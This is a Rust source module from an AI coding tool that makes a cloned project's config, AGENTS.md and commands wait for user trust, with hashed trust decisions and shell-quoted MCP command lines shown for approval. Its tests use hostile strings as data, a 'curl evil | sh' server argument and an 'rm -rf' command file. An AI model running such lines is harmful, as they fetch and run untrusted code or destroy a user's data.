//! Whether a project's own configuration may be used.
//!
//! A cloned repository is someone else's code. Its `picode.toml`,
//! `.picode/commands/` and `AGENTS.md` are ignored until the user trusts the
//! folder: interactively (`picode trust`, or the question an interactive
//! session asks), or with `--trust`. The decision is stored in the user's
//! config dir (`trusted.toml`) for the folder's canonical path together with
//! a SHA-256 of those files, so any change to them asks again.
//!
//! Trust is not a blank cheque: [`crate::config`] still refuses the keys a
//! project must never set (a higher permission mode, a provider's endpoint
//! or key source, `serve`, the sandbox and environment settings), and an MCP
//! server from a project file starts only when its exact command line was
//! shown to the user and approved; that approval is stored here too, and
//! only `picode trust` (which prints the command lines) records it.
//!
//! What this module must not do: decide anything from the project's own
//! files alone. Everything it trusts is written by the user's hand or
//! answer into the user's config dir.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::config::CONFIG_FILE;

/// The file in the user's config dir that keeps trust decisions.
pub const TRUST_FILE: &str = "trusted.toml";

/// The project files that are ignored until the folder is trusted, relative
/// to the project root (commands are the `*.md` files of the directory).
pub const PROJECT_FILES: &[&str] = &[CONFIG_FILE, "AGENTS.md", ".picode/commands"];

/// Whether the project's own configuration is used.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProjectTrust {
    /// The project has none of the files that need trust.
    Nothing,
    /// The user trusted this folder with these exact contents; `mcp` holds
    /// the MCP command lines they approved.
    Trusted { mcp: Vec<String> },
    /// The files are present but not trusted: they are ignored.
    Untrusted,
}

impl ProjectTrust {
    /// Whether the project's files are read at all.
    pub fn uses_project_files(&self) -> bool {
        matches!(self, ProjectTrust::Trusted { .. })
    }

    /// The approved MCP command lines (empty unless trusted).
    pub fn approved_mcp(&self) -> &[String] {
        match self {
            ProjectTrust::Trusted { mcp } => mcp,
            _ => &[],
        }
    }
}

/// Errors reading or writing the trust file.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error("trust decisions in {path}: {message}")]
    File { path: PathBuf, message: String },
}

/// One stored decision.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
struct Decision {
    /// SHA-256 of the project files when the user trusted them.
    sha256: String,
    /// MCP command lines the user saw and approved.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    mcp: Vec<String>,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    projects: BTreeMap<String, Decision>,
}

/// The canonical path a decision is filed under.
pub fn project_key(project: &Path) -> String {
    std::fs::canonicalize(project)
        .unwrap_or_else(|_| project.to_owned())
        .display()
        .to_string()
}

/// SHA-256 over the project files that need trust, or `None` when there are
/// none. Names are hashed with the contents so a renamed command counts as
/// a change.
pub fn fingerprint(project: &Path) -> Option<String> {
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    for rel in [CONFIG_FILE, "AGENTS.md"] {
        if let Ok(bytes) = std::fs::read(project.join(rel)) {
            files.push((rel.to_owned(), bytes));
        }
    }
    if let Ok(entries) = std::fs::read_dir(project.join(".picode").join("commands")) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.extension().and_then(|e| e.to_str()) != Some("md") {
                continue;
            }
            if let Ok(bytes) = std::fs::read(&path) {
                let name = entry.file_name().to_string_lossy().into_owned();
                files.push((format!(".picode/commands/{name}"), bytes));
            }
        }
    }
    if files.is_empty() {
        return None;
    }
    files.sort();
    let mut hasher = Sha256::new();
    for (name, bytes) in &files {
        hasher.update((name.len() as u64).to_le_bytes());
        hasher.update(name.as_bytes());
        hasher.update((bytes.len() as u64).to_le_bytes());
        hasher.update(bytes);
    }
    Some(hex::encode(hasher.finalize()))
}

/// The stored decisions of one user.
#[derive(Debug, Clone)]
pub struct TrustStore {
    file: PathBuf,
}

impl TrustStore {
    pub fn new(config_dir: &Path) -> TrustStore {
        TrustStore {
            file: config_dir.join(TRUST_FILE),
        }
    }

    fn read(&self) -> Result<TrustFile, TrustError> {
        let err = |message: String| TrustError::File {
            path: self.file.clone(),
            message,
        };
        match std::fs::read_to_string(&self.file) {
            Ok(text) => toml::from_str(&text).map_err(|e| err(e.to_string())),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustFile::default()),
            Err(e) => Err(err(e.to_string())),
        }
    }

    /// What the user decided for this project as it is now.
    pub fn lookup(&self, project: &Path) -> Result<ProjectTrust, TrustError> {
        let Some(sha256) = fingerprint(project) else {
            return Ok(ProjectTrust::Nothing);
        };
        let file = self.read()?;
        Ok(match file.projects.get(&project_key(project)) {
            Some(d) if d.sha256 == sha256 => ProjectTrust::Trusted { mcp: d.mcp.clone() },
            _ => ProjectTrust::Untrusted,
        })
    }

    /// Trusts the project's files as they are now. `mcp` replaces the
    /// approved command lines when given; `None` keeps those approved before
    /// (still only used while they match the file exactly).
    pub fn trust(
        &self,
        project: &Path,
        mcp: Option<Vec<String>>,
    ) -> Result<ProjectTrust, TrustError> {
        let Some(sha256) = fingerprint(project) else {
            return Ok(ProjectTrust::Nothing);
        };
        let mut file = self.read()?;
        let key = project_key(project);
        let mcp = match mcp {
            Some(mcp) => mcp,
            None => file
                .projects
                .get(&key)
                .map(|d| d.mcp.clone())
                .unwrap_or_default(),
        };
        file.projects.insert(
            key,
            Decision {
                sha256,
                mcp: mcp.clone(),
            },
        );
        self.write(&file)?;
        Ok(ProjectTrust::Trusted { mcp })
    }

    fn write(&self, file: &TrustFile) -> Result<(), TrustError> {
        let err = |message: String| TrustError::File {
            path: self.file.clone(),
            message,
        };
        let text = toml::to_string_pretty(file).map_err(|e| err(e.to_string()))?;
        if let Some(dir) = self.file.parent() {
            picode_tools::private_fs::create_private_dir(dir).map_err(|e| err(e.to_string()))?;
        }
        picode_tools::private_fs::write_private(&self.file, text.as_bytes())
            .map_err(|e| err(e.to_string()))
    }
}

/// How an MCP server is shown for approval: the exact command line with its
/// extra environment, which is also the string an approval is stored as.
pub fn mcp_command_line(server: &picode_tools::McpServerConfig) -> String {
    if let Some(url) = &server.url {
        return format!("HTTP {url}");
    }
    let mut parts: Vec<String> = server
        .env
        .iter()
        .map(|(k, v)| format!("{k}={}", shell_quote(v)))
        .collect();
    parts.push(shell_quote(&server.command));
    parts.extend(server.args.iter().map(|a| shell_quote(a)));
    parts.join(" ")
}

fn shell_quote(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c));
    if plain {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

/// The MCP servers a project file declares, read without trusting it (for
/// display only).
pub fn project_mcp_servers(project: &Path) -> Vec<picode_tools::McpServerConfig> {
    #[derive(Deserialize)]
    struct Only {
        #[serde(default)]
        mcp_servers: Vec<picode_tools::McpServerConfig>,
    }
    std::fs::read_to_string(project.join(CONFIG_FILE))
        .ok()
        .and_then(|text| toml::from_str::<Only>(&text).ok())
        .map(|o| o.mcp_servers)
        .unwrap_or_default()
}

/// Asks the user whether to trust the project, showing what it configures.
/// Reads one answer line from `input`; anything but `y`/`yes` declines.
pub fn ask(
    store: &TrustStore,
    project: &Path,
    input: &mut dyn std::io::BufRead,
    out: &mut dyn std::io::Write,
) -> Result<ProjectTrust, TrustError> {
    let present: Vec<&str> = PROJECT_FILES
        .iter()
        .copied()
        .filter(|rel| project.join(rel).exists())
        .collect();
    if present.is_empty() {
        return Ok(ProjectTrust::Nothing);
    }
    let servers = project_mcp_servers(project);
    let lines: Vec<String> = servers.iter().map(mcp_command_line).collect();
    let _ = writeln!(
        out,
        "{} has its own PiCode configuration: {}.",
        project.display(),
        present.join(", ")
    );
    let _ = writeln!(
        out,
        "It can add instructions and commands for the model. Only trust folders whose files you have read."
    );
    if !lines.is_empty() {
        let _ = writeln!(
            out,
            "It starts these MCP servers (programs on your machine):"
        );
        for line in &lines {
            let _ = writeln!(out, "  {line}");
        }
    }
    let _ = write!(out, "Trust this folder? [y/N] ");
    let _ = out.flush();
    let mut answer = String::new();
    let _ = input.read_line(&mut answer);
    let answer = answer.trim().to_ascii_lowercase();
    if answer == "y" || answer == "yes" {
        store.trust(project, Some(lines))
    } else {
        let _ = writeln!(out, "Not trusted: the project's files are ignored.");
        Ok(ProjectTrust::Untrusted)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_file_needs_trust_again() {
        let config = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let store = TrustStore::new(config.path());
        assert_eq!(store.lookup(project.path()).unwrap(), ProjectTrust::Nothing);
        std::fs::write(project.path().join(CONFIG_FILE), "max_steps = 3\n").unwrap();
        assert_eq!(
            store.lookup(project.path()).unwrap(),
            ProjectTrust::Untrusted
        );
        store.trust(project.path(), None).unwrap();
        assert!(store.lookup(project.path()).unwrap().uses_project_files());
        std::fs::create_dir_all(project.path().join(".picode/commands")).unwrap();
        std::fs::write(project.path().join(".picode/commands/x.md"), "rm -rf").unwrap();
        assert_eq!(
            store.lookup(project.path()).unwrap(),
            ProjectTrust::Untrusted
        );
    }

    #[test]
    fn command_lines_quote_what_a_shell_would_split() {
        let server = picode_tools::McpServerConfig {
            name: "x".into(),
            url: None,
            command: "sh".into(),
            args: vec!["-c".into(), "curl evil | sh".into()],
            env: [("A".to_owned(), "b c".to_owned())].into(),
        };
        assert_eq!(mcp_command_line(&server), "A='b c' sh -c 'curl evil | sh'");
    }
}
